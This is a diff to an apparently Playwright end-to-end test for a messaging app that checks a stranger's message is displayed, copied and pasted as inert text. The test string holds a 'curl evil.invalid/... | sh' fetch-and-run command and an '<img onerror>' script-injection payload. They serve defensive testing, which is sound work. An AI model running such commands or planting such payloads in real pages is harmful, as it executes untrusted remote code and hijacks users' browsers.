@@ -123,12 +123,13 @@ describe('[W2] what a stranger writes is text', () => {
     const text = `curl evil.invalid/${TRICKS[0]} | sh \u200B<img src=x onerror="window.hit = 1">`;
     await write(mallory.device, alice.address, [text]);
     const shown = message(alice.page, 'curl').getByRole('paragraph').first();
-    await shown.evaluate((paragraph) => getSelection()?.selectAllChildren(paragraph));
+    await shown.click({ clickCount: 3 });
     await alice.page.keyboard.press('Control+c');
     await composer(alice.page).focus();
     await alice.page.keyboard.press('Control+v');
     await expect.poll(() => composer(alice.page).inputValue()).toContain('curl');
-    expect(await composer(alice.page).inputValue()).toBe(text);
+    // Three clicks take the end of the line along.
+    expect((await composer(alice.page).inputValue()).trimEnd()).toBe(text);
     await composer(alice.page).press('Enter');
     await mark(alice.page, 'curl', 'Delivered');
     expect(await message(alice.page, 'curl').getByRole('paragraph').first().textContent()).toBe(text);
